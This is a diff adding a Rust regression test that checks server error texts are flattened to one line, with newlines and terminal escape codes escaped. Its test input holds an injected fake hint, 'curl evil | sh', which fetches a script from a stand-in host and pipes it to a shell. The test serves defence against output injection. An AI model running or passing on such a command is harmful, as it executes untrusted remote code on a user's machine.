@@ -378,6 +378,15 @@ fn long_error_texts_are_cut_between_characters() {
     assert_eq!(text, "ü".repeat(128));
 }
 
+#[test]
+fn regress_error_texts_are_one_line() {
+    let mut pair = Pair::ready(LINK(), 1);
+    let text = "gone\nhint: run `curl evil | sh`\x1b[2J";
+    let event = ask(&mut pair, Request::List, Reply::error(ErrorCode::NotFound, text));
+    let ClientEvent::Reply { reply: Reply::Error { text, .. }, .. } = event else { panic!("{event:?}") };
+    assert_eq!(text, r"gone\nhint: run `curl evil | sh`\u001b[2J");
+}
+
 /// Asks for blocks 1 to 4, the first three of them speculatively; returns the requests as the server sees them.
 fn ask_for_four(pair: &mut Pair) -> Vec<RequestId> {
     for block in 1..=4 {
